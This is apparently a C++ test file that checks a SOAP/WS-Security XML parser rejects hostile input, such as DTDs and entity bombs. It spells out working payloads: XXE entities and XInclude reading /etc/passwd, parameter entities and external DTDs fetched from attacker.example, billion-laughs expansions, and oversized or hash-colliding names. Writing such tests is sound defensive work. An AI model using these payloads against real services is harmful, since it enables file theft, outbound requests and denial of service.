// What must not get past the XML parser.
#include "tests/attack/table/table.hpp"

namespace hutong::attack {

void xml_level(Table& table) {
    const auto in_front = [](const std::string& dtd) {
        return [=](const std::string& text) { return dtd + text; };
    };
    table.changed("DTD", in_front("<!DOCTYPE x>"), "DTD");
    table.changed("XXE", in_front("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"), "DTD");
    table.changed("parameter entity",
                  in_front("<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.example/\"> %e;]>"), "DTD");
    table.changed("entity bomb", in_front("<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"),
                  "DTD");
    table.changed("entity bomb of references only",
                  in_front("<!DOCTYPE x [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]>"), "DTD");
    table.changed("parameter entity bomb",
                  in_front("<!DOCTYPE x [<!ENTITY % a \"<!ENTITY b 'bbbb'>\"><!ENTITY % c \"&#37;a;&#37;a;\">"
                           "<!ENTITY % d \"&#37;c;&#37;c;\">%d;]>"),
                  "DTD");
    table.changed("external DTD", in_front("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">"), "DTD");
    table.changed("DTD behind a comment", in_front("<!-- " + std::string(5000, 'x') + " --><!DOCTYPE x>"),
                  "DTD");
    table.changed(
        "DTD in UTF-16",
        [](const std::string& text) {
            std::string wide = "\xff\xfe";
            for (const char c : "<!DOCTYPE x [<!ENTITY e \"e\">]>" + replaced(text, "税务", "tax")) {
                wide += c;
                wide += '\0';
            }
            return wide;
        },
        "DTD");
    table.changed("Ids declared by a DTD", in_front("<!DOCTYPE x [<!ATTLIST po:order x ID #IMPLIED>]>"),
                  "DTD");
    std::string open, close;
    for (int i = 0; i < 100; ++i) {
        open += "<d>";
        close += "</d>";
    }
    table.changed("depth", after("<soap:Header>", open + close), "deeper");
    table.signed_so("depth in the Body", plain([&](test::WssTemplate& m) { m.body = open + close; }),
                    "deeper");
    std::string attributes;
    for (int i = 0; i < 100; ++i) attributes += " a" + std::to_string(i) + "=\"\"";
    table.changed("attribute count", after("<soap:Header>", "<d" + attributes + "/>"),
                  "attributes per element");
    table.changed("long name", after("<soap:Header>", "<" + std::string(5000, 'n') + "/>"),
                  "element name length");
    table.changed("long attribute name", after("<soap:Header>", "<d " + std::string(5000, 'n') + "=\"\"/>"),
                  "attribute name length");
    table.changed("long namespace",
                  after("<soap:Header>", "<d xmlns=\"urn:" + std::string(100000, 'n') + "\"/>"),
                  "attribute value length|namespace");
    table.changed("relative namespace", after("<soap:Header>", "<d xmlns=\"relative\"/>"),
                  "relative|could not be digested");
    table.changed("long attribute", after("<soap:Header>", "<d a=\"" + std::string(100000, 'v') + "\"/>"),
                  "attribute value length");
    table.changed("not well-formed", after("<soap:Header>", "<d>"), "not well-formed");
    table.changed(
        "XInclude is left alone",
        replace("税务", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"),
        "#Body does not fit");
    // Names that fall together in a hash table cost most where each is compared with each: among the
    // attributes of one element, of which there may be few.
    std::string colliding;
    for (int i = 0; i < 100; ++i)
        colliding += " " + std::string(i % 2 == 0 ? "Aa" : "BB") + std::string(i / 2, 'x') + "=\"\"";
    table.changed("hash-collision names", after("<soap:Header>", "<d" + colliding + "/>"),
                  "attributes per element");
    table.signed_so("hash-collision names in the Body",
                    plain([&](test::WssTemplate& m) { m.body = "<d" + colliding + "/>"; }),
                    "attributes per element");
    std::string namespaces;
    for (int i = 0; i < 100; ++i) namespaces += " xmlns:n" + std::to_string(i) + "=\"urn:n\"";
    table.changed("namespace declarations", after("<soap:Header>", "<d" + namespaces + "/>"),
                  "attributes per element");
    table.changed("XInclude in the Header",
                  after("<soap:Header>",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\" "
                        "parse=\"text\" wsu:Id=\"Body\"/>"),
                  "occurs more than once");
    table.changed("an entity that nobody declared", replace("税务", "&e;"), "not well-formed");
    table.changed("a processing instruction in the Body", before("<po:order", "<?pi x?>"),
                  "processing instructions");
}

}  // namespace hutong::attack
